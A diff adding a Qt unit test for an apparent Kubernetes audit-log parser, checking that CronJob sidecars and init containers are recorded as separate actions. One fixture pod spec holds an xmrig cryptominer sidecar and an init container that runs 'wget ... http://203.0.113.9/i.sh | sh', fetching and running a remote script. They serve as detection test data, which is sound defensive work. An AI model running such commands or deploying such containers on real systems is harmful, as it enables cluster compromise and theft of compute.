@@ -103,6 +103,46 @@ private slots:
         QCOMPARE(value(result.events[record], column), expected);
     }
 
+    // A CronJob runs every container of its pod: sidecars and init containers are actions too.
+    void otherContainersAreOtherActions_data() {
+        QTest::addColumn<QByteArray>("podSpec");
+        QTest::addColumn<QString>("action");
+        QTest::addColumn<QString>("image");
+        QTest::addColumn<QString>("otherActions");
+        QTest::newRow("one container") << QByteArray("{\"containers\":[{\"name\":\"m\",\"image\":\"busybox:1."
+                                                     "36\",\"command\":[\"sh\",\"-c\",\"date\"]}]}")
+                                       << "sh -c date"
+                                       << "busybox:1.36"
+                                       << "";
+        QTest::newRow("a sidecar without command, an init container with one")
+            << QByteArray(
+                   "{\"containers\":[{\"name\":\"m\",\"image\":\"reg/backup:2\",\"args\":[\"--all\"]},"
+                   "{\"name\":\"s\",\"image\":\"xmrig/xmrig:6.21\"}],"
+                   "\"initContainers\":[{\"name\":\"i\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\","
+                   "\"wget -qO- http://203.0.113.9/i.sh | sh\"]}]}")
+            << "--all"
+            << "reg/backup:2"
+            << "xmrig/xmrig:6.21\nsh -c wget -qO- http://203.0.113.9/i.sh | sh";
+        QTest::newRow("no containers listed") << QByteArray("{\"containers\":[]}") << ""
+                                              << ""
+                                              << "";
+    }
+    void otherContainersAreOtherActions() {
+        QFETCH(QByteArray, podSpec);
+        QFETCH(QString, action);
+        QFETCH(QString, image);
+        QFETCH(QString, otherActions);
+        const QByteArray extra =
+            ",\"requestObject\":{\"spec\":{\"schedule\":\"*/5 * * * *\",\"jobTemplate\":{\"spec\":"
+            "{\"template\":{\"spec\":" +
+            podSpec + "}}}}}";
+        const ReadResult result = read(stage("c", "ResponseComplete", extra.constData()));
+        QCOMPARE(result.events.size(), 1);
+        QCOMPARE(value(result.events[0], "task_action"), action);
+        QCOMPARE(value(result.events[0], "container_image"), image);
+        QCOMPARE(value(result.events[0], "task_other_actions"), otherActions);
+    }
+
     void stagesFold_data() {
         QTest::addColumn<QByteArray>("log");
         QTest::addColumn<QStringList>("keptStages"); // of each event, in order
